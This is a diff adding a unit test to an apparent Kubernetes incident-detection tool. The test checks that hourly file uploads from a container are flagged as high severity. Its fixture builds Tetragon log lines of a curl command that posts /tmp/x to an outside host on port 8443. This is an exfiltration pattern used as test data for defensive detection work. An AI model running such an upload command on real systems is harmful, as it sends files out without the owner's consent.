@@ -50,6 +50,18 @@ class Supply(Reach):
         self.assertIn(f"{HIDDEN}, to {HOME}:8443, 10 times until 2026-11-10T11:40:10Z", told)
         self.assertIn("rotate service-account-token", self.terminal)
 
+    def test_what_goes_on_all_day_is_no_first_sign(self):
+        """A job of the container sends a file away every hour, the last time at 20:00; each time
+        is like the others, the last one as well."""
+        c = Case("habit", "2026-11-10")
+        c.request(0, "tom", "list", "pods shop/")
+        log = [self.seen(c, 600 + 3600 * i, "/usr/bin/curl", f"-F f=@/tmp/x https://{HOME}:8443/u")
+               for i in range(10)]
+        self.analyze({"pod.json": json.dumps(shop(c)), "audit.log": lines(c.records()),
+                      "tetragon.log": lines(log)})
+        self.assertNotIn("time", self.documents["patient_zero"])
+        self.assertEqual([f["severity"] for f in self.found("tetragon_upload")], ["high"])
+
     def test_a_controller_is_no_attacker(self):
         self.tell(False)
         (claim,) = self.documents["claims"]["claims"]
